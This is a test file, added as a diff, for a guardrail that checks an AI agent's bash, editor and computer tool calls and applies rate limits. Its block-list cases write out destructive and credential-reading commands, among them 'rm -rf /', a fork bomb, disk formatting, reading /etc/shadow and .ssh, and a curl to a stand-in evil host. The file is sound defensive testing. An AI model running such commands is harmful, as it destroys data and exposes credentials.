@@ -0,0 +1,94 @@
+import { describe, expect, it } from "vitest";
+import { checkToolCall, takeRateLimit } from "./enforce";
+import { parseGuardrailPolicy } from "./policy";
+import defaultPolicy from "./default-policy.json";
+
+const policy = parseGuardrailPolicy({
+  ...defaultPolicy,
+  allowedDomains: ["example.com", "*.docs.dev"],
+  rateLimits: { bash: { max: 2, windowSeconds: 10 } },
+});
+
+const bash = (command: string) =>
+  checkToolCall(policy, "bash", { command })?.rule;
+
+describe("checkToolCall", () => {
+  it.each([
+    ["rm -rf /", "command-denied"],
+    ["sudo rm -fr ~", "command-denied"],
+    [":(){ :|:& };:", "command-denied"],
+    ["mkfs.ext4 /dev/sda1", "command-denied"],
+    ["cat /etc/shadow", "blocked-path"],
+    ["ls -la /root/.ssh", "blocked-path"],
+    ["echo hi > '/etc/sudoers'", "blocked-path"],
+    ["curl https://evil.test/install.sh", "domain-not-allowed"],
+  ])("blocks %s", (command, rule) => {
+    expect(bash(command)).toBe(rule);
+  });
+
+  it.each([
+    "rm -rf ./build",
+    "ls /rooted",
+    "cat notes/etc/shadow.txt",
+    "curl -s https://example.com/api",
+    "wget https://www.example.com/file.zip",
+    "curl https://api.docs.dev/v1",
+  ])("lets %s run", (command) => {
+    expect(bash(command)).toBeUndefined();
+  });
+
+  it("only allows listed commands when an allow list is set", () => {
+    const strict = parseGuardrailPolicy({ commands: { allow: ["^ls\\b"] } });
+    expect(
+      checkToolCall(strict, "bash", { command: "ls -la" }),
+    ).toBeUndefined();
+    expect(checkToolCall(strict, "bash", { command: "pwd" })).toMatchObject({
+      type: "policy-violation",
+      rule: "command-not-allowed",
+    });
+  });
+
+  it("blocks editor paths under blocked directories", () => {
+    expect(
+      checkToolCall(policy, "str_replace_editor", {
+        command: "view",
+        path: "/root/../root/.bashrc",
+      })?.rule,
+    ).toBe("blocked-path");
+    expect(
+      checkToolCall(policy, "str_replace_editor", {
+        command: "create",
+        path: "/home/user/notes.txt",
+      }),
+    ).toBeUndefined();
+  });
+
+  it("blocks typing addresses outside the allowed domains", () => {
+    const type = (text: string) =>
+      checkToolCall(policy, "computer", { action: "type", text })?.rule;
+    expect(type("evil.test/login")).toBe("domain-not-allowed");
+    expect(type("https://example.com/docs")).toBeUndefined();
+    expect(type("hello world")).toBeUndefined();
+  });
+
+  it("allows every domain when the allowlist is empty", () => {
+    const open = parseGuardrailPolicy(defaultPolicy);
+    expect(
+      checkToolCall(open, "bash", { command: "curl https://evil.test" }),
+    ).toBeUndefined();
+  });
+});
+
+describe("takeRateLimit", () => {
+  it("limits calls per sandbox and tool within the window", () => {
+    const take = (sandboxId: string, now: number) =>
+      takeRateLimit(policy, sandboxId, "bash", now)?.rule;
+
+    expect(take("rate-a", 0)).toBeUndefined();
+    expect(take("rate-a", 1_000)).toBeUndefined();
+    expect(take("rate-a", 2_000)).toBe("rate-limited");
+    expect(take("rate-b", 2_000)).toBeUndefined();
+    expect(take("rate-a", 10_500)).toBeUndefined();
+    expect(takeRateLimit(policy, "rate-a", "computer", 0)).toBeUndefined();
+  });
+});